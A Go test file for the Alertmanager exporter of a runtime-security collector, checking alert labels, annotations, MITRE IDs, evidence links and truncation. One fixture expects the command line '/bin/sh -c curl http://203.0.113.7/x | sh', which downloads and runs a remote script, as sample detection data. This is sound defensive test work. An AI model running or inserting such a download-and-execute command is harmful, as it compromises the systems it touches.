// Copyright The otelcol-runtime-security Authors
// SPDX-License-Identifier: Apache-2.0

package alertmanagerexporter

import (
	"context"
	"net/url"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-runtime-security/otelcol-runtime-security/internal/attrkey"
)

// onlyAlert pushes ld and returns the single alert of the single request.
func onlyAlert(t *testing.T, e *alertmanagerExporter, f *fakeAM, ld func() rec) alert {
	t.Helper()
	require.NoError(t, e.pushLogs(context.Background(), logsOf(ld())))
	reqs := f.requests()
	require.Len(t, reqs, 1)
	require.Len(t, reqs[0], 1)
	return reqs[0][0]
}

func TestIncidentAlert(t *testing.T) {
	f := newFakeAM(t)
	e, _ := newTestExporter(t, f.srv.URL, func(c *Config) { c.StaticLabels = map[string]string{"cluster": "prod-eu1"} })
	const id = "7c9e6679-7425-50de-944b-e07fc1f90ae7"
	a := onlyAlert(t, e, f, func() rec {
		return incidentRec(id, 3, "critical", []any{"terminal_shell_in_container", "curl_download"}, nil)
	})

	assert.Equal(t, map[string]string{
		"alertname": "RuntimeSecurityIncident",
		"incident":  id,
		"severity":  "critical", // the incident's, not the record's warning
		"rule":      "terminal_shell_in_container",
		"namespace": "shop",
		"workload":  "checkout",
		"pod":       "checkout-7d4b9c-x2x9q",
		"container": "app",
		"node":      "node-1",
		"cluster":   "prod-eu1",
	}, a.Labels)

	first := testNow.Add(-10 * time.Minute)
	assert.Equal(t, first, a.StartsAt, "startsAt is the incident's first_seen")
	assert.Equal(t, testNow.Add(5*time.Minute), a.EndsAt, "endsAt is now + resolve_timeout")

	an := a.Annotations
	assert.Equal(t, "CRITICAL runtime-security incident: rule terminal_shell_in_container in shop/checkout-7d4b9c-x2x9q on node node-1", an["summary"])
	assert.NotContains(t, an["summary"], "\n")
	assert.Contains(t, an["description"], "3 detection(s)")
	assert.Contains(t, an["description"], "Rules so far: terminal_shell_in_container, curl_download.")
	assert.Contains(t, an["description"], "Latest: curl_download: A shell ran in a container.")
	assert.Equal(t, "/bin/sh -c curl http://203.0.113.7/x | sh", an["command_line"])
	assert.Equal(t, "/usr/bin/python3 ← /usr/local/bin/gunicorn ← /sbin/tini", an["parent_chain"])
	assert.Equal(t, "registry.example.com/shop/checkout:1.4.2", an["image"])
	assert.Equal(t, "T1059, T1105", an["mitre"], "the incident's techniques, not only the record's")
	assert.Equal(t, "3", an["detections"])
	assert.Equal(t, first.Format(time.RFC3339Nano), an["first_seen"])
	assert.Equal(t, first.Add(3*time.Second).Format(time.RFC3339Nano), an["last_seen"])
	assert.Equal(t, "terminal_shell_in_container, curl_download", an["rules"])
	assert.Equal(t, "https://github.com/otelcol-runtime-security/otelcol-runtime-security/blob/main/docs/runbooks/terminal_shell_in_container.md", an["runbook_url"])
	ev, err := url.Parse(an["evidence_url"])
	require.NoError(t, err)
	assert.Contains(t, ev.Query().Get("panes"), `runtime_security_incident_id=\"`+id+`\"`)
	assert.Contains(t, ev.Query().Get("panes"), `"from":"`+first.Add(-5*time.Minute).Format(time.RFC3339)+`"`)
	assert.Equal(t, an["evidence_url"], a.GeneratorURL)
	assert.NotContains(t, an, "chains")
}

func TestChainReplacesRuleLabel(t *testing.T) {
	f := newFakeAM(t)
	e, _ := newTestExporter(t, f.srv.URL)
	a := onlyAlert(t, e, f, func() rec {
		r := incidentRec("inc-1", 4, "critical", []any{"terminal_shell_in_container", "download_then_exec"}, []any{"download_then_exec", "second_chain"})
		r.attrs[attrkey.Chain] = "second_chain"
		return r
	})
	assert.Equal(t, "download_then_exec", a.Labels["chain"], "the first completed chain")
	assert.NotContains(t, a.Labels, "rule")
	assert.Equal(t, "download_then_exec, second_chain", a.Annotations["chains"])
	assert.Contains(t, a.Annotations["summary"], "chain download_then_exec")
	assert.Contains(t, a.Annotations["description"], "Completed chains: download_then_exec, second_chain.")
	// The default runbook link is the chain's page once a chain completed.
	assert.True(t, strings.HasSuffix(a.Annotations["runbook_url"], "/download_then_exec.md"), a.Annotations["runbook_url"])
}

func TestLoneDetectionAlert(t *testing.T) {
	f := newFakeAM(t)
	e, _ := newTestExporter(t, f.srv.URL)
	ts := testNow.Add(-time.Minute)
	a := onlyAlert(t, e, f, func() rec { return loneRec("namespace_escape", "critical", ts) })
	assert.Equal(t, map[string]string{
		"alertname": "RuntimeSecurityDetection",
		"rule":      "namespace_escape",
		"severity":  "critical",
		"namespace": "shop",
		"workload":  "checkout",
		"pod":       "checkout-7d4b9c-x2x9q",
		"container": "app",
		"node":      "node-1",
	}, a.Labels)
	assert.Equal(t, ts, a.StartsAt)
	assert.Equal(t, "1", a.Annotations["detections"])
	assert.Equal(t, "namespace_escape", a.Annotations["rules"])
	assert.Equal(t, "T1611", a.Annotations["mitre"])
	assert.NotContains(t, a.Annotations, "parent_chain")
	ev, err := url.Parse(a.Annotations["evidence_url"])
	require.NoError(t, err)
	assert.Contains(t, ev.Query().Get("panes"), `{security_rule_name=\"namespace_escape\"} | k8s_pod_name=\"checkout-7d4b9c-x2x9q\"`)
}

func TestPlaceholders(t *testing.T) {
	tests := []struct {
		name      string
		res       map[string]any
		wantNS    string
		wantWL    string
		wantWhere string
		absent    []string
	}{
		{"host process", map[string]any{attrkey.K8sNodeName: "node-1"}, "_host", "_host", "in a host process on node node-1", []string{"pod", "container"}},
		{"container outside Kubernetes", map[string]any{attrkey.ContainerID: "containerd://0123456789abcdef0123", attrkey.K8sNodeName: "node-2"}, "_container", "_container", "in container 0123456789ab on node node-2 (not a Kubernetes pod)", []string{"pod", "container"}},
		{"pod without workload", map[string]any{attrkey.K8sNamespaceName: "batch", attrkey.K8sPodName: "oneoff"}, "batch", "_unknown", "in batch/oneoff", []string{"node", "container"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFakeAM(t)
			e, _ := newTestExporter(t, f.srv.URL)
			a := onlyAlert(t, e, f, func() rec {
				r := incidentRec("inc-p", 1, "warning", []any{"r1"}, nil)
				r.res = tt.res
				return r
			})
			assert.Equal(t, tt.wantNS, a.Labels["namespace"])
			assert.Equal(t, tt.wantWL, a.Labels["workload"])
			for _, l := range tt.absent {
				assert.NotContains(t, a.Labels, l, "empty labels are left out")
			}
			assert.True(t, strings.HasSuffix(a.Annotations["summary"], tt.wantWhere), a.Annotations["summary"])
			assert.NotContains(t, a.Annotations, "image")
		})
	}
	// The placeholders are the connector's: the same constants.
	assert.Equal(t, "_host", attrkey.PlaceholderHost)
	assert.Equal(t, "_container", attrkey.PlaceholderContainer)
}

func TestAnnotationsTruncated(t *testing.T) {
	f := newFakeAM(t)
	e, _ := newTestExporter(t, f.srv.URL)
	long := strings.Repeat("A", 1020) + strings.Repeat("é", 2000)
	a := onlyAlert(t, e, f, func() rec {
		r := incidentRec("inc-t", 1, "warning", []any{"r1"}, nil)
		r.attrs[attrkey.ProcessCommandLine] = long
		return r
	})
	cl := a.Annotations["command_line"]
	assert.LessOrEqual(t, len(cl), maxAnnotationBytes)
	assert.True(t, strings.HasSuffix(cl, truncatedMarker), cl[len(cl)-40:])
	assert.True(t, utf8.ValidString(cl))
	for k, v := range a.Annotations {
		assert.LessOrEqual(t, len(v), maxAnnotationBytes, k)
	}
}

func TestTruncate(t *testing.T) {
	assert.Equal(t, "short", truncate("short", 20))
	s := strings.Repeat("é", 20) // 40 bytes
	got := truncate(s, 21)
	assert.True(t, utf8.ValidString(got), got)
	assert.LessOrEqual(t, len(got), 21)
	assert.True(t, strings.HasSuffix(got, truncatedMarker))
}

func TestResolvedAlertOfSupersededLabels(t *testing.T) {
	prev := map[string]string{"alertname": alertnameIncident, "incident": "i", "severity": "warning", "rule": "r1"}
	cur := alert{
		Labels:      map[string]string{"alertname": alertnameIncident, "incident": "i", "severity": "critical", "chain": "c1"},
		Annotations: map[string]string{"summary": "s"},
		StartsAt:    testNow.Add(-time.Hour),
		EndsAt:      testNow.Add(5 * time.Minute),
	}
	r := resolved(prev, cur, testNow)
	assert.Equal(t, prev, r.Labels)
	assert.Equal(t, testNow, r.EndsAt)
	assert.Equal(t, "the incident's alert with severity=critical, chain=c1", r.Annotations["superseded_by"])
	assert.NotContains(t, cur.Annotations, "superseded_by", "the current alert's annotations are not changed")
}
